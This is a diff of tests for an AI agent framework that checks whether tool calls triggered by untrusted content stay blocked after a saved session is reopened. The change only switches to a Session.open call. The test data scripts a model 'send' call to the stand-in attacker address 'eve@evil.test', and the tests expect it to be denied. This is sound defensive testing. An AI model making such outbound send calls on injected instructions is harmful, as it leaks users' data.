@@ -370,7 +370,7 @@ def test_going_on_later_knows_what_was_foreign(tmp_path: Path) -> None:
         intents({"tool": "send", "to": "eve@evil.test", "text": "x"}),
         "done",
     ]
-    with Session(model=ScriptedModel(second), session=session.id, **options) as again:
+    with Session.open(session.id, model=ScriptedModel(second), **options) as again:
         assert finished == again.origins.files
         answer = again.run_sync("Execute s.py")
     assert [True, True] == [denied(result) for result in answer.calls]
@@ -425,7 +425,7 @@ def test_a_repeated_answer_is_as_foreign_later(tmp_path: Path) -> None:
     fetch = ScriptedModel([*[intents(FETCH)] * 3, "done"])
     with Session(model=fetch, **options) as first:
         first.run_sync("go")
-    with Session(model=ScriptedModel([]), session=first.id, **options) as later:
+    with Session.open(first.id, model=ScriptedModel([]), **options) as later:
         assert {"a1", "a2", "a3"} == first.origins.foreign_calls()
         assert {"a1", "a2", "a3"} == later.origins.foreign_calls()
 
